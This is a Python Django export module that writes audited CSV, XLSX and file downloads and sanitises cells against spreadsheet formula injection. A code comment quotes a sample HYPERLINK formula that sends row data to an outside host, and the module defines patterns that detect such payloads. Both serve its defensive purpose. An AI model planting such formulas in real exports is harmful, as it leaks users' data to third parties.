"""Exports: tables (CSV for Excel with a BOM, and XLSX), streamed so that large lists do not sit in memory, and
files (PDF bulletins, stored reports).

Every export leaves the platform through ``audited_export`` (a table) or ``audited_file`` (a file), which write
exactly one audit record (action ``export``) through ``record_export``; a command that writes files itself calls
``record_export``. Callers pass rows already scoped and masked by their selectors."""

from __future__ import annotations

import csv
import io
import itertools
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from django.db.models import Model
from django.http import FileResponse, HttpResponse, StreamingHttpResponse
from openpyxl import Workbook
from openpyxl.styles import Font

# Formula injection (CSV/Excel): a cell starting with = + - @ (or a tab or carriage return before one) is run
# as a formula by spreadsheet programs: ``=HYPERLINK("http://…"&A1,"点击")`` sends the row away. Such text is
# written with a leading apostrophe (shown as text); plain numbers like -12.5 stay numbers. Control
# characters that XML cannot hold (NUL…) are dropped, so that one bad value cannot break a whole workbook.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
FORMULA_PATTERN = r"^[=+\-@\t\r＝＋－＠]"
NUMBER_PATTERN = r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$"


def safe_cell(value: Any) -> Any:
    """A value made safe for a CSV or Excel cell (see above); non-text values are returned as they are."""
    if not isinstance(value, str):
        return value
    value = _ILLEGAL.sub("", value)
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def safe_expr(column: str) -> Any:
    """``safe_cell`` as a polars expression over a text column (for exports written by polars)."""
    import polars as pl

    col = pl.col(column).str.replace_all(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "")
    risky = col.str.contains(FORMULA_PATTERN) & ~col.str.contains(NUMBER_PATTERN)
    return pl.when(risky).then(pl.lit("'") + col).otherwise(col).alias(column)


def safe_frame(frame: Any) -> Any:
    """Every text column of a polars frame made safe with ``safe_expr``."""
    import polars as pl

    return frame.with_columns([safe_expr(name) for name, dtype in frame.schema.items() if dtype == pl.Utf8])


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> StreamingHttpResponse:
    writer = csv.writer(_Echo())

    def stream() -> Iterable[str]:
        yield "\ufeff" + writer.writerow(safe_row(header))
        for row in rows:
            yield writer.writerow(safe_row(row))

    response = StreamingHttpResponse(stream(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def xlsx_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]], title: str = "Sheet1",
                  notes: Sequence[str] = ()) -> HttpResponse:
    """One sheet: the header in bold, the rows, then after a blank row the ``notes`` (what the figures are as of)."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=title[:31])
    from openpyxl.cell import WriteOnlyCell

    bold = []
    for h in header:
        c = WriteOnlyCell(ws, value=safe_cell(h))
        c.font = Font(bold=True)
        bold.append(c)
    ws.append(bold)
    for row in rows:
        ws.append(safe_row(row))
    if notes:
        ws.append([])
        for note in notes:
            ws.append([safe_cell(note)])
    buf = io.BytesIO()
    wb.save(buf)
    response = HttpResponse(
        buf.getvalue(), content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


def record_export(
    *, actor: Any, what: str, fmt: str, region_code: str = "", obj: Model | None = None, object_id: str = "",
    summary: str = "", detail: dict[str, Any] | None = None,
) -> None:
    """The one audit record of an export: who, what (``app.model`` of the rows), which region, which format."""
    from fupin.core import audit
    from fupin.core.models import AuditEvent

    audit.record(actor=actor, action=AuditEvent.Action.EXPORT, obj=obj, object_type=what, object_id=object_id,
                 region_code=region_code, summary=summary or f"{what} export ({fmt})",
                 detail={"format": fmt, **(detail or {})})


def audited_export(
    *, actor: Any, what: str, fmt: str, filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]],
    region_code: str = "", obj: Model | None = None, object_id: str = "", summary: str = "",
    detail: dict[str, Any] | None = None, title: str = "Sheet1", notes: Sequence[str] = (),
) -> HttpResponse | StreamingHttpResponse:
    """A table as CSV (any ``fmt`` but ``xlsx``, streamed) or XLSX, audited once before the first row is sent;
    ``notes`` (what the figures are as of) follow the rows after a blank one."""
    fmt = "xlsx" if fmt == "xlsx" else "csv"
    record_export(actor=actor, what=what, fmt=fmt, region_code=region_code, obj=obj, object_id=object_id,
                  summary=summary, detail=detail)
    if fmt == "xlsx":
        return xlsx_response(filename, header, rows, title=title, notes=notes)
    tail: list[Sequence[Any]] = [[], *[[n] for n in notes]] if notes else []
    return csv_response(filename, header, itertools.chain(rows, tail))


def audited_file(
    *, actor: Any, what: str, filename: str, content: bytes | Path, content_type: str, inline: bool = False,
    region_code: str = "", obj: Model | None = None, summary: str = "", detail: dict[str, Any] | None = None,
) -> HttpResponse | FileResponse:
    """A finished file (bytes, or a stored file streamed from disk), audited once."""
    record_export(actor=actor, what=what, fmt=filename.rsplit(".", 1)[-1], region_code=region_code, obj=obj,
                  summary=summary, detail=detail)
    if isinstance(content, Path):
        return FileResponse(content.open("rb"), as_attachment=not inline, filename=filename,
                            content_type=content_type)
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'{"inline" if inline else "attachment"}; filename="{filename}"'
    return response
